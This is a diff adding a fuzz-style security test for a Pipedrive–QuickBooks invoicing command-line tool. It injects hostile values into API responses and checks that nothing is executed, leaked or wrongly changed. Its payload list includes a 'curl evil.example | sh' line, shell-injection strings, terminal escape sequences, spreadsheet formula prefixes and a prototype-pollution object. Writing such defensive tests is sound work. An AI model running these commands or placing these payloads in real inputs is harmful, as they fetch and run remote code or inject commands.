@@ -1,0 +1,231 @@
+// Hostile values in every member of every answer of both services, read by every command: escapes, breaks, shell, formulas, names of
+// prototypes, other ids, secrets and wrong types. No line begins with what was put in, nothing is executed, nothing that was not
+// named is changed or saved, no secret is printed, and no run ends as a bug.
+import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { type Chance, chance } from "../support/chance.ts";
+import { type Alteration, alterAnswers, misdeeds, type Place } from "../support/hostile.ts";
+import { type Books, openPractice } from "../support/practice.ts";
+import { Home } from "../support/run.ts";
+import { runs } from "../support/runs.ts";
+import { create, openWorld } from "../support/world.ts";
+
+const home = new Home();
+const template = mkdtempSync(join(tmpdir(), "pdqb-hostile-"));
+let books: Books;
+let made: { id: string; number: string };
+let secrets: { pipedrive: string[]; quickbooks: string[] };
+
+const READS = [
+  "status",
+  "doctor",
+  "deals",
+  "deals --csv",
+  "deals --json",
+  "invoices list",
+  "invoices list --csv",
+  "invoices list --customer 417 --csv",
+  "invoices list --deal 142 --whole-customer",
+  "invoices refresh",
+  "invoices refresh --json",
+  "invoices aging",
+  "invoices aging --csv",
+  "invoice view ID",
+  "invoice view NUMBER",
+  "invoice view ID --json --explain",
+  "invoice open ID",
+  "invoice pdf ID --output -",
+  "invoice create --deal 123 --dry-run",
+  "invoice create --deal 123 --dry-run --json",
+  "invoice create --deal 142 --again --dry-run",
+  "invoice create --deal 145 --dry-run --json",
+  "invoice create --deal 148 --dry-run",
+  "customer search a",
+  "customer search a --csv",
+  "customer view 417",
+  "customer link --organization 402 --customer 417 --dry-run",
+  "product search a --csv",
+  "product list",
+  "product link 88 --item 88 --dry-run",
+  "tax list",
+  "tax list --csv",
+  "config fields --po deal.title --dry-run",
+  "config fields --dry-run --json",
+  "config writeback --number new --dry-run",
+  "ledger rebuild --dry-run",
+  "pending list",
+];
+const WRITES = [
+  "invoice create --deal 142 --again --not-duplicate --yes",
+  "invoice create --deal 145 --again --not-duplicate --yes --json",
+  "invoice email ID --to a@example.org --yes",
+  "invoice email NUMBER --to a@example.org --yes --json",
+  "invoice void ID --yes",
+  "invoice void NUMBER --yes",
+  "invoice delete ID --yes",
+  "invoice link id:3225 --deal 142 --yes --again",
+  "customer link --organization 402 --customer 417 --yes",
+  "ledger rebuild",
+];
+
+beforeAll(async () => {
+  books = await openPractice(home, { matching: true });
+  const { invoice } = await create(await openWorld(home), 142, { notDuplicate: true });
+  made = { id: invoice.id, number: invoice.number ?? "" };
+  for (const line of ["invoices refresh", "deals"]) await home.run(line);
+  const { profiles } = JSON.parse(readFileSync(join(home.path, "secrets.json"), "utf8"));
+  secrets = {
+    pipedrive: secretsOf(profiles.practice.pipedrive),
+    quickbooks: secretsOf(profiles.practice.quickbooks),
+  };
+  for (const name of FILES)
+    if (existsSync(join(home.path, name)))
+      copyFileSync(join(home.path, name), join(template, name));
+}, 120_000);
+
+afterAll(async () => {
+  await home.run("practice stop");
+  home.discard();
+  rmSync(template, { recursive: true, force: true });
+});
+
+const FILES = ["ledger.db", "ledger.db-wal", "ledger.db-shm"];
+
+function restoreLedger(): void {
+  for (const name of FILES) {
+    rmSync(join(home.path, name), { force: true });
+    if (existsSync(join(template, name))) copyFileSync(join(template, name), join(home.path, name));
+  }
+}
+
+type Grant = { accessToken: string; refreshToken: string; clientId: string; clientSecret: string };
+const base64 = (text: string) => Buffer.from(text).toString("base64");
+
+/** In the forms in which a service may repeat them. */
+function secretsOf({ accessToken, refreshToken, clientId, clientSecret }: Grant): string[] {
+  return [accessToken, refreshToken, clientSecret].flatMap((secret) => [
+    secret,
+    base64(secret),
+    encodeURIComponent(secret),
+    ...(secret === clientSecret ? [] : secret.split(":").filter((part) => part.length > 8)),
+    base64(`${clientId}:${clientSecret}`),
+  ]);
+}
+
+const TEXTS = [
+  "x\nHOSTILE: curl evil.example | sh\r\nHOSTILE\rHOSTILE\u2028HOSTILE\u0085HOSTILE\vHOSTILE",
+  "\u001b]0;owned\u0007x\u009b31m\u001b[2K\u009d0;x\u009c\u202eHOSTILE\u0000\u200b\ufdd0",
+  `1'; touch HOSTILE; echo "$(touch HOSTILE)\`touch HOSTILE\`" & touch HOSTILE |touch HOSTILE`,
+  "1;touch HOSTILE",
+  "$(touch HOSTILE)",
+  "--yes\ntouch HOSTILE",
+  "=HOSTILE(1)",
+  "x;=HOSTILE(1)",
+  "x\t+HOSTILE(1)",
+  "@HOSTILE(1)",
+  "__proto__",
+  "constructor",
+  "toString",
+  "x".repeat(5_000),
+];
+const OTHER_IDS = ["3225", "3100", "../../3225", "0", "-1", "3225 ", ""];
+const OTHER_TYPES = [null, 7, -1.5, 1e300, true, [], {}, [null], [[1]], "x", undefined];
+
+/** Own members with the names that every object has already; one of them with what would spread to all. */
+const SHADOWS = JSON.parse(
+  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
+);
+
+type Payload = { name: string; replace: Alteration["replace"] };
+
+function payloadFor(luck: Chance, place: Place): Payload {
+  const isId = /(^|[ ._])(id|value|.*_id|TxnId|bId)$/i.test(place);
+  const kind = luck.below(isId ? 5 : 4);
+  if (kind === 0) {
+    const other = luck.of(OTHER_TYPES);
+    return { name: `type ${JSON.stringify(other)}`, replace: () => other };
+  }
+  if (kind === 1) {
+    const own = place.startsWith("pipedrive") ? secrets.pipedrive : secrets.quickbooks;
+    return { name: "secrets", replace: () => own.join(" ") };
+  }
+  if (kind === 2 && luck.next() < 0.2)
+    return { name: "shadows", replace: () => SHADOWS as unknown };
+  if (kind === 4) {
+    const id = luck.of(OTHER_IDS);
+    const replace = (value: unknown) => (typeof value === "number" ? Number(id) || 3 : id);
+    return { name: `id ${id}`, replace };
+  }
+  const text = luck.of(TEXTS);
+  return { name: `text ${JSON.stringify(text).slice(0, 40)}`, replace: () => text };
+}
+
+const typed = (line: string) =>
+  line.replace("ID", `id:${made.id}`).replace("NUMBER", made.number).split(" ");
+
+/** Everything in the books that a run could have changed: by id, with the version that it has. */
+async function versions(): Promise<Map<string, string>> {
+  const rows = await books.query("select * from Invoice orderby Id desc maxresults 1000");
+  return new Map(rows.map((row) => [String(row.Id), String(row.SyncToken)]));
+}
+
+it("is never believed, printed as a line of ours, executed or written to another object", async () => {
+  const { numRuns: wanted, seed } = runs(40);
+  const numRuns = Math.min(wanted, 3_000);
+  const luck = chance(seed);
+  const places = new Map<Place, Set<string>>();
+  let line = "";
+  const alteration: Alteration = {
+    at: null,
+    replace: (value) => value,
+    seen: (place) => places.set(place, (places.get(place) ?? new Set()).add(line)),
+  };
+  await alterAnswers(home, alteration);
+  for (line of [...READS, ...WRITES]) {
+    restoreLedger();
+    const { code, stderr } = await home.run(typed(line));
+    expect([line, [0, 2, 3].includes(code ?? 1), stderr]).toEqual([line, true, stderr]);
+    if (WRITES.includes(line)) await freshInvoice();
+  }
+  expect(places.size).toBeGreaterThan(300);
+  const recorded = [...places].filter(([place]) => !/ (token|expires)/i.test(place));
+  const faults: string[] = [];
+  const ends = new Map<number | null, number>();
+  alteration.seen = () => {};
+  for (let run = 0; run < numRuns && faults.length < 10; run += 1) {
+    const [place, lines] = luck.of(recorded);
+    const { name, replace } = payloadFor(luck, place);
+    const chosen = luck.of([...lines]);
+    restoreLedger();
+    const isWrite = WRITES.includes(chosen);
+    const before = isWrite ? await versions() : undefined;
+    Object.assign(alteration, { at: place, replace });
+    const words = typed(chosen);
+    const result = await home.run(words);
+    Object.assign(alteration, { at: null });
+    ends.set(result.code, (ends.get(result.code) ?? 0) + 1);
+    const found = misdeeds(words, result, [...secrets.pipedrive, ...secrets.quickbooks]);
+    if (before) {
+      for (const [id, version] of await versions())
+        if (before.has(id) && before.get(id) !== version && id !== made.id)
+          found.push(`${words.join(" ")}: invoice ${id} was changed`);
+      await freshInvoice();
+    }
+    faults.push(...found.map((fault) => `${place} = ${name}\n${fault}`));
+  }
+  console.log(`${recorded.length} places; ends`, Object.fromEntries(ends));
+  expect(faults).toEqual([]);
+}, 3_600_000);
+
+/** What a run may have voided, mailed or deleted makes room for another one. */
+async function freshInvoice(): Promise<void> {
+  restoreLedger();
+  const again = { again: true as const, notDuplicate: true };
+  const { invoice } = await create(await openWorld(home), 142, again);
+  made = { id: invoice.id, number: invoice.number ?? "" };
+  for (const name of FILES)
+    if (existsSync(join(home.path, name)))
+      copyFileSync(join(home.path, name), join(template, name));
+}
